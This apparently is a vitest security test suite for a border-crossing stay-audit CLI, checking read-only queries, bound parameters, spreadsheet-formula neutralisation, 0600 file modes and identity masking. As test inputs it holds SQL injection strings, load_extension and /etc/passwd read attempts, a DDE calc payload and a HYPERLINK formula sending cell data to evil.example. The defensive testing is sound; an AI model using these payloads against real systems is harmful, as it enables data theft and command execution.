import { createHash } from 'node:crypto';
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BIN, csvRecords, inspectDatabase, looksLikeCrash, pool, runCli, runMeasured, startCli, tempDir, writeCrossingsCsv, CROSSINGS_HEADER } from './support.js';

/**
 * Security (issue 7): query cannot write, attach other files or load extensions;
 * filter values are bound parameters, never spliced into SQL; exported CSV cells
 * cannot act as spreadsheet formulas; a new database file is readable by its owner
 * only (0600); --mask exports carry no document number or name.
 */

let dir: string;
let cleanup: () => void;
let db: string;

/** Identities planted in the database: none of them may appear in a --mask export. */
const IDENTITY = {
  personIds: ['IIN880101300123', "X' OR '1'='1"],
  documents: ['N7654321', 'AB1234567', 'QZ5550001'],
  names: ['IVANOV', 'IVAN', 'PETROVA', 'MARIA', 'SIDOROV'],
};

/** Cells a spreadsheet would run as formulas, planted in every kind of text column. */
const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', '-1+1', '@SUM(A1:A9)', "=cmd|' /C calc'!A0", '=1+1'];

const sha = (file: string): string => createHash('sha256').update(fs.readFileSync(file)).digest('hex');
const q = (value: string): string => (/[",\n]/.test(value) ? `"${value.replace(/"/g, '""')}"` : value);

beforeAll(async () => {
  ({ dir, cleanup } = tempDir('stayaudit-sec-'));
  db = path.join(dir, 'audit.db');
  const lines = [
    CROSSINGS_HEADER,
    `IIN880101300123,N7654321,RUS,IVANOV,IVAN,1988-01-01,M,IN,2024-01-01 10:00,CP1`,
    `,AB1234567,UZB,PETROVA,MARIA,1990-05-05,F,IN,2024-04-01 10:00,CP2`,
    `${q("X' OR '1'='1")},QZ5550001,KGZ,SIDOROV,${q('=1+1')},1975-02-02,M,IN,2024-02-01 10:00,${q(FORMULAS[0]!)}`,
    ...FORMULAS.map((f, i) => `F${i},FX${i},DEU,${q(f)},${q(f)},1980-01-01,M,IN,2024-0${1 + (i % 9)}-15 08:00,${q(f)}`),
  ];
  fs.writeFileSync(path.join(dir, 'crossings.csv'), lines.join('\n') + '\n');
  fs.writeFileSync(
    path.join(dir, 'registrations.csv'),
    ['document_no,citizenship,registered_from,notified_on,address,host_id,host_name', `FX0,DEU,2024-01-20,2024-01-25,${q(FORMULAS[1]!)},${q(FORMULAS[3]!)},${q(FORMULAS[0]!)}`].join('\n') + '\n',
  );
  for (const [dataset, file] of [['crossings', 'crossings.csv'], ['registrations', 'registrations.csv']]) {
    const r = await runCli(['--db', db, 'import', dataset!, path.join(dir, file!)]);
    expect(r.code, r.stderr).toBe(0);
  }
  for (const asOf of ['2024-06-30', '2024-12-31']) {
    const r = await runCli(['--db', db, 'audit', '--as-of', asOf]);
    expect(r.code, r.stderr).toBe(0);
  }
});

afterAll(() => cleanup());

/** Runs the CLI on each case, two at a time, and collects what went wrong. */
async function check<T>(cases: readonly T[], run: (c: T) => Promise<string[]>): Promise<string[]> {
  return (await pool(cases, 2, run)).flat();
}

describe.concurrent('query is read-only and stays inside the database', () => {
  it('refuses every statement that writes (exit 2, a clear message) and changes nothing', async () => {
    const refused = [
      "UPDATE persons SET surname = 'X'",
      'DROP TABLE crossings',
      'CREATE TEMP TABLE evil (x)',
      'WITH a AS (SELECT 1) DELETE FROM crossings',
      'SELECT 1; DELETE FROM crossings',
      'BEGIN IMMEDIATE',
      'PRAGMA writable_schema = 1',
    ];
    const before = sha(db);
    const problems = await check(refused, async (sql) => {
      const r = await runMeasured(['--db', db, 'query', sql]);
      const found: string[] = [];
      if (r.code !== 2) found.push(`${sql}: exit ${r.code} (${r.stdout}${r.stderr})`);
      if (!/^error: query/.test(r.stderr)) found.push(`${sql}: no clear message: ${r.stderr}`);
      if (looksLikeCrash(r.stderr)) found.push(`${sql}: crash: ${r.stderr}`);
      return found;
    });
    expect(problems).toEqual([]);
    expect(sha(db)).toBe(before);
  });

  it('refuses to attach, detach or vacuum into other files: none is read or created', async () => {
    const secret = path.join(dir, 'secret.db');
    fs.copyFileSync(db, secret);
    const escapes: [string, (target: string) => string][] = [
      ['ATTACH an existing database', () => `ATTACH '${secret}' AS x`],
      ['ATTACH behind comments, lower case', (t) => `/* a */ -- b\n  attach database '${t}' as x`],
      ['ATTACH after an empty statement, of a URI', (t) => `;ATTACH 'file:${t}?mode=rwc' AS x`],
      ['VACUUM INTO', (t) => `VACUUM INTO '${t}'`],
    ];
    const before = sha(db);
    const problems = await check(escapes, async ([name, make]) => {
      const target = path.join(dir, `other-${Math.random().toString(36).slice(2)}.db`);
      const r = await runMeasured(['--db', db, 'query', make(target)]);
      const found: string[] = [];
      if (r.code !== 2) found.push(`${name}: exit ${r.code} (${r.stdout}${r.stderr})`);
      if (looksLikeCrash(r.stderr)) found.push(`${name}: crash: ${r.stderr}`);
      if (fs.existsSync(target)) found.push(`${name}: created ${target}`);
      return found;
    });
    expect(problems).toEqual([]);
    expect(sha(db)).toBe(before);
    const explain = await runMeasured(['--db', db, 'query', `EXPLAIN ATTACH '${path.join(dir, 'made-by-explain.db')}' AS s`]);
    expect(looksLikeCrash(explain.stderr)).toBe(false);
    expect(fs.existsSync(path.join(dir, 'made-by-explain.db'))).toBe(false);
  });

  it('cannot load extensions or touch files through SQL functions', async () => {
    const written = path.join(dir, 'written-by-query');
    const attempts = [
      "SELECT load_extension('libc.so.6', 'system')",
      "SELECT fts3_tokenizer('simple', x'4141414141414141')",
      `SELECT writefile('${written}', readfile('/etc/passwd'))`,
    ];
    const problems = await check(attempts, async (sql) => {
      const r = await runMeasured(['--db', db, 'query', sql]);
      const found: string[] = [];
      if (r.code !== 2) found.push(`${sql}: exit ${r.code} (${r.stdout})`);
      if (!/^error: query: /.test(r.stderr)) found.push(`${sql}: no clear message: ${r.stderr}`);
      if (looksLikeCrash(r.stderr)) found.push(`${sql}: crash: ${r.stderr}`);
      return found;
    });
    expect(problems).toEqual([]);
    expect(fs.existsSync(written)).toBe(false);
  });

  it('reads work: the documented tables answer', async () => {
    const r = await runMeasured(['--db', db, 'query', 'SELECT count(*) AS n FROM crossings', '--format', 'csv']);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toBe(`n\n${3 + FORMULAS.length}\n`);
  });
});

describe.concurrent('filter values are bound, never spliced into SQL', () => {
  it('a key that looks like SQL finds exactly that person; injections find nobody', async () => {
    const r = await runMeasured(['--db', db, 'person', "X' OR '1'='1", '--format', 'csv']);
    expect(r.code, r.stderr).toBe(0);
    expect([...new Set(csvRecords(r.stdout).slice(1).map((row) => row[0]))]).toEqual(["X' OR '1'='1"]);
    const problems = await check(["' OR '1'='1", "%'; DROP TABLE crossings; --"], async (key) => {
      const miss = await runMeasured(['--db', db, 'person', key, '--format', 'csv']);
      return miss.code === 2 && /^error: no person/.test(miss.stderr) ? [] : [`person ${key}: exit ${miss.code}: ${miss.stdout}${miss.stderr}`];
    });
    expect(problems).toEqual([]);
  });

  it('query parameters are bound: an injection in --param is a literal value', async () => {
    const sql = 'SELECT count(*) AS n FROM persons WHERE person_key = :k';
    const [literal, injection] = await Promise.all([
      runMeasured(['--db', db, 'query', sql, '--param', "k=X' OR '1'='1", '--format', 'csv']),
      runMeasured(['--db', db, 'query', sql, '--param', "k=' OR 1=1 --", '--format', 'csv']),
    ]);
    expect(literal.stdout).toBe('n\n1\n');
    expect(injection.stdout).toBe('n\n0\n');
  });

  it('injections in filter flags are refused as usage errors (exit 2) and change nothing', async () => {
    const before = sha(db);
    const cases = [
      ['findings', '--citizenship', "RUS') OR ('1'='1"],
      ['findings', '--rule', "stay-limit' OR 1=1 --"],
      ['findings', '--min-days', '0 OR 1=1'],
      ['findings', '--from', "2024-01-01' OR '1'='1"],
      ['violators', '--run', '1 OR 1=1'],
      ['stats', '--by', 'citizenship; DROP TABLE crossings'],
    ];
    const problems = await check(cases, async (args) => {
      const r = await runMeasured(['--db', db, ...args, '--format', 'csv']);
      return r.code === 2 && !looksLikeCrash(r.stderr) ? [] : [`${args.join(' ')}: exit ${r.code}: ${r.stdout.slice(0, 300)}${r.stderr}`];
    });
    expect(problems).toEqual([]);
    expect(sha(db)).toBe(before);
  });
});

/** Whether a CSV cell would be run by a spreadsheet: it starts like a formula and is not a number. */
function formulaLike(cell: string): boolean {
  return /^[=+\-@\t\r＝＋－＠]/.test(cell) && !/^[-+]?\d+(\.\d+)?$/.test(cell);
}

describe.concurrent('exported CSV cells cannot act as spreadsheet formulas', () => {
  it('findings, violators, stats, person, diff and query exports neutralise every formula cell', async () => {
    const exports: string[][] = [
      ['findings', '--format', 'csv'],
      ['violators', '--format', 'csv'],
      ['stats', '--by', 'checkpoint', '--format', 'csv'],
      ['person', 'F0', '--format', 'csv'],
      ['diff', '1', '2', '--all', '--format', 'csv'],
      ['query', 'SELECT p.*, c.checkpoint, r.address, r.host_id, r.host_name FROM persons p JOIN crossings c USING (person_key) LEFT JOIN registrations r USING (person_key)', '--format', 'csv'],
    ];
    const problems = await check(exports, async (args) => {
      const r = await runMeasured(['--db', db, ...args]);
      if (r.code !== 0) return [`${args[0]}: exit ${r.code}: ${r.stderr}`];
      const records = csvRecords(r.stdout);
      if (records.length < 2) return [`${args[0]}: nothing exported`];
      const bad = records.flat().filter(formulaLike);
      return bad.length === 0 ? [] : [`${args.slice(0, 3).join(' ')}: live formulas ${JSON.stringify(bad.slice(0, 5))}`];
    });
    expect(problems).toEqual([]);
  });

  it('--output files are neutralised the same way', async () => {
    const out = path.join(dir, 'findings-export.csv');
    const r = await runMeasured(['--db', db, 'findings', '--format', 'csv', '-o', out]);
    expect(r.code, r.stderr).toBe(0);
    expect(csvRecords(fs.readFileSync(out, 'utf8')).flat().filter(formulaLike)).toEqual([]);
  });

  it('the planted formulas are there, neutralised (the check above is not vacuous)', async () => {
    const r = await runMeasured(['--db', db, 'query', 'SELECT surname FROM persons ORDER BY 1', '--format', 'csv']);
    const cells = csvRecords(r.stdout).flat();
    expect(cells).toContain("'=1+1");
    expect(cells).toContain("'@SUM(A1:A9)");
  });

  // Excel in a Russian or Kazakh locale (the users of this tool) splits CSV on `;`: an
  // unquoted `X;=1+1` would become a cell of its own that starts with `=` and runs.
  it('a cell with a semicolon followed by a formula is quoted, so a ;-separated reading cannot split it into a formula', async () => {
    const semicolon = path.join(dir, 'semicolon.csv');
    fs.writeFileSync(semicolon, `${CROSSINGS_HEADER}\nS1,SC1,RUS,X;=1+1,Y,1980-01-01,M,IN,2024-01-01 10:00,CP1\n`);
    const store = path.join(dir, 'semicolon.db');
    expect((await runCli(['--db', store, 'import', 'crossings', semicolon])).code).toBe(0);
    const r = await runMeasured(['--db', store, 'query', 'SELECT surname FROM persons', '--format', 'csv']);
    // Read as a spreadsheet with `;` as separator would: split every unquoted stretch.
    const cells = r.stdout
      .split('\n')
      .flatMap((line) => line.split(/;(?=(?:[^"]*"[^"]*")*[^"]*$)/))
      .map((c) => c.replace(/^"|"$/g, ''));
    expect(cells.filter(formulaLike)).toEqual([]);
  });

  // Neutralised like every export; the importer drops the apostrophe again.
  it('the --rejects file does not carry live formulas either', async () => {
    const bad = path.join(dir, 'bad-rows.csv');
    fs.writeFileSync(bad, `${CROSSINGS_HEADER}\nR1,RJ1,RUS,=HYPERLINK("http://evil.example"),Y,1980-01-01,M,SIDEWAYS,2024-01-01 10:00,@SUM(A1)\n`);
    const rejects = path.join(dir, 'rejects.csv');
    const r = await runMeasured(['--db', path.join(dir, 'rejects.db'), 'import', 'crossings', bad, '--rejects', rejects]);
    expect(r.code).toBe(5);
    expect(csvRecords(fs.readFileSync(rejects, 'utf8')).flat().filter(formulaLike)).toEqual([]);
  });
});

describe.concurrent('a new database file is readable by its owner only', () => {
  it('is created with mode 0600, even under umask 000, and so are its -wal and -shm files', async () => {
    const file = path.join(dir, 'fresh', 'new.db');
    fs.mkdirSync(path.dirname(file));
    const big = path.join(dir, 'mode.csv');
    writeCrossingsCsv(big, 60_000, 31, 'M');
    // umask 000: only the code's own mode keeps others out.
    const running = startCli(['--db', file, 'import', 'crossings', big]);
    const modes = new Map<string, number>();
    let done = false;
    void running.done.then(() => (done = true));
    while (!done) {
      for (const suffix of ['', '-wal', '-shm', '-journal']) {
        try {
          modes.set(suffix, fs.statSync(file + suffix).mode & 0o777);
        } catch {
          // not there (yet)
        }
      }
      await new Promise((resolve) => setTimeout(resolve, 5));
    }
    expect((await running.done).code).toBe(0);
    expect(modes.get('')).toBe(0o600);
    for (const [suffix, mode] of modes) expect(mode, `${file}${suffix}`).toBe(0o600);
    expect(modes.has('-wal'), 'the import was watched while it wrote').toBe(true);

    const umask0 = path.join(dir, 'fresh', 'umask0.db');
    const r = spawnSync('/bin/sh', ['-c', 'umask 000; exec "$0" "$@"', process.execPath, BIN, '--db', umask0, 'import', 'crossings', path.join(dir, 'crossings.csv')], { encoding: 'utf8' });
    expect(r.status, r.stderr).toBe(0);
    expect(fs.statSync(umask0).mode & 0o777).toBe(0o600);
  });

  it('report files written with --output and --rejects are 0600 too', async () => {
    const out = path.join(dir, 'report.csv');
    expect((await runMeasured(['--db', db, 'findings', '--format', 'csv', '-o', out])).code).toBe(0);
    expect(fs.statSync(out).mode & 0o777).toBe(0o600);
    const bad = path.join(dir, 'one-bad.csv');
    fs.writeFileSync(bad, `${CROSSINGS_HEADER}\nB1,BB1,RUS,S,G,1980-01-01,M,NOWHERE,2024-01-01 10:00,CP\n`);
    const rejects = path.join(dir, 'one-bad-rejects.csv');
    expect((await runMeasured(['--db', path.join(dir, 'rej-mode.db'), 'import', 'crossings', bad, '--rejects', rejects])).code).toBe(5);
    expect(fs.statSync(rejects).mode & 0o777).toBe(0o600);
  });
});

describe.concurrent('--mask exports carry no document number or name', () => {
  const secrets = [...IDENTITY.personIds, ...IDENTITY.documents, ...IDENTITY.names, '1988-01-01', '1990-05-05'];
  const leaks = (text: string): string[] => secrets.filter((s) => text.includes(s));

  it('findings, violators, diff and person, in every format, carry none', async () => {
    const masked: string[][] = [
      ...['csv', 'ndjson', 'table'].map((format) => ['findings', '--mask', '--format', format]),
      ['violators', '--mask', '--format', 'json'],
      ['diff', '1', '2', '--all', '--mask', '--format', 'csv'],
      ['person', 'IIN880101300123', '--mask', '--format', 'table'],
      ['person', 'UZB:AB1234567', '--mask', '--format', 'json'],
    ];
    const problems = await check(masked, async (args) => {
      const r = await runMeasured(['--db', db, ...args]);
      if (r.code !== 0 || r.stdout.length === 0) return [`${args.join(' ')}: exit ${r.code}: ${r.stderr}`];
      const found = leaks(r.stdout);
      return found.length === 0 ? [] : [`${args.join(' ')}: ${found.join(', ')}`];
    });
    expect(problems).toEqual([]);
  });

  it('without --mask the same exports do carry them (the check above is not vacuous)', async () => {
    const r = await runMeasured(['--db', db, 'findings', '--format', 'csv']);
    expect(leaks(r.stdout)).toEqual(expect.arrayContaining(['N7654321', 'IVANOV']));
  });

  it('--output files under --mask carry none either', async () => {
    const out = path.join(dir, 'masked.json');
    expect((await runMeasured(['--db', db, 'violators', '--mask', '--format', 'json', '-o', out])).code).toBe(0);
    expect(leaks(fs.readFileSync(out, 'utf8'))).toEqual([]);
  });

  // Column-name masking is easily got round in SQL (`SELECT document_no AS d`), so
  // query refuses --mask rather than pretend.
  it('query --mask prints no document number or name (or refuses --mask)', async () => {
    const r = await runMeasured(['--db', db, 'query', 'SELECT * FROM persons', '--mask', '--format', 'csv']);
    if (r.code === 2) return;
    expect(leaks(r.stdout)).toEqual([]);
  });

  it('masked exports leave the database as it was', () => {
    expect(inspectDatabase(db).integrity).toBe('ok');
  });
});
